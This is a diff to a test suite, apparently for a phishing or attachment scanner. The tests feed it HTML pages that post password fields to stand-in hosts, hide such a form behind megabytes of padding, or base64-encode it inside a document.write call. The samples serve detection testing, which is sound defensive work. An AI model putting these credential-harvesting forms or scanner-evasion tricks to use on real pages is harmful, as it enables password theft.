@@ -17,6 +17,22 @@ it('hands out the file that a page makes of itself', async () => {
   expect(files['invoice.zip']?.toString('latin1', 0, 4)).toBe('PK\x03\x04')
 })
 
+it.each([' ', '\0'])(
+  'says of a page behind more filling than is read that it was not read',
+  async (sign) => {
+    const page = Buffer.concat([Buffer.alloc(8_400_000, sign), Buffer.from('<html></html>')])
+    const [named, other] = [await run('a.html', page), await run('a.img', page)]
+    expect(named.full.incomplete).toEqual([expect.stringContaining('filling')])
+    expect(other.full).toMatchObject({ isPage: false })
+  },
+)
+
+it('reads a page behind words by its name', async () => {
+  const page = 'Dear all, <form action="https://a.example.org/"><input type=password></form>'
+  expect(idsOf(await run('a.html', page))).toContain('page.password-elsewhere')
+  expect((await run('a.txt', page)).full).toMatchObject({ isPage: false })
+})
+
 it('reads a page that is written by a script like the page itself', async () => {
   const inner = '<form action="https://collect.example.org/p"><input type="password"></form>'
   const page = `<html><script>document.write(atob("${Buffer.from(inner).toString('base64')}"))</script></html>`
